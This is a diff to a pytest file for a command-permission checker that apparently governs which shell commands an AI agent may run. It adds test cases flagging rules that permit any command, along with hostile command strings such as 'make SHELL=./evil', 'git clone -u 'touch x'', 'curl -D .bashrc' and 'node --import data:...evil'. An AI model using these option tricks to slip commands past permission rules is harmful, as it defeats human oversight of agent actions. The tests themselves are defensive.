@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from axe_lsp.runtime.safety.allowances import is_allowed, rule_fault
+from axe_lsp.runtime.safety.allowances import is_allowed, rule_fault, rule_warning
 
 
 @pytest.mark.parametrize(
@@ -60,6 +60,10 @@ def test_no_other_rule_allows_tools_of_servers(rule: str) -> None:
         ("run_command(sh -c *)", 'has the option "-c", which no rule allows'),
         ("run_command(find . -delete)", 'has the option "-delete", which no rule allows'),
         ("run_command(sed -n *)", "add --sandbox to the rule"),
+        (
+            "run_command(mawk *)",
+            "allows mawk to run or write what its operands say; name the whole",
+        ),
         ("run_command(git format-patch --output-directory x)", "which no rule allows"),
         ("run_command(*)", "names no command"),
         ("run_mcp( )", "names no command"),
@@ -91,6 +95,19 @@ def test_a_rule_without_effect_says_why(rule: str, fault: str) -> None:
 )
 def test_a_rule_with_an_effect_has_no_fault(rule: str) -> None:
     assert rule_fault(rule) is None
+
+
+@pytest.mark.parametrize("program", ["env", "/usr/bin/env", "time xargs", "bash", "npx"])
+def test_a_rule_for_a_program_that_runs_any_other_one_is_warned_about(program: str) -> None:
+    for rule in (f"run_command({program})", f"Bash({program} *)"):
+        assert "allows all commands" in (rule_warning(rule) or "")
+
+
+@pytest.mark.parametrize(
+    "rule", ["*", "run_command", "run_command(bash a.sh)", "run_mcp(npx)", "run_command(mawk *)"]
+)
+def test_other_rules_are_not_warned_about(rule: str) -> None:
+    assert rule_warning(rule) is None
 
 
 @pytest.mark.parametrize(
@@ -128,6 +145,9 @@ def test_options_are_allowed_only_by_a_rule_with_a_star(command: str) -> None:
         ("find *", "find . -name x.py -print -type f"),
         ("rg *", "rg -n -i --hidden x src"),
         ("tar *", "tar tf a.tar"),
+        ("make *", "make -j4 -C docs html"),
+        ("node --test *", "node --test --test-name-pattern=x"),
+        ("git *", "git diff -u"),
     ],
 )
 def test_harmless_options_are_allowed_by_a_star(rule: str, command: str) -> None:
@@ -193,6 +213,20 @@ def test_harmless_options_are_allowed_by_a_star(rule: str, command: str) -> None
         ("curl *", "curl -D .bashrc http://x"),
         ("wget *", "wget --output-doc=.bashrc http://x"),
         ("make *", "make --eval=evil"),
+        ("make *", "make 'CC=touch x'"),
+        ("make *", "make SHELL=./evil all"),
+        ("make -C docs *", "make -C docs html SPHINXBUILD=evil"),
+        ("make *", "make -f notes.txt"),
+        ("make *", "make --makef=notes.txt"),
+        ("mawk -f a.awk", "mawk -f a.awk b.txt"),
+        ("node *", "node --import data:text/javascript,evil"),
+        ("node --test *", "node --test --requ ./evil.js"),
+        ("git *", "git clone -u 'touch x' . out"),
+        ("git clone *", "git clone -qu 'touch x' . out"),
+        ("git *", "git fast-export --export-marks=.bashrc HEAD"),
+        ("curl *", "curl --remote-name http://x/evil"),
+        ("man *", "man -P evil ls"),
+        ("mypy *", "mypy --python-executable evil"),
         ("time rg *", "time rg --pre evil x"),
         ("make test", "make test SHELL=evil"),
         ("git diff --stat *", "git diff --stat --output=x"),
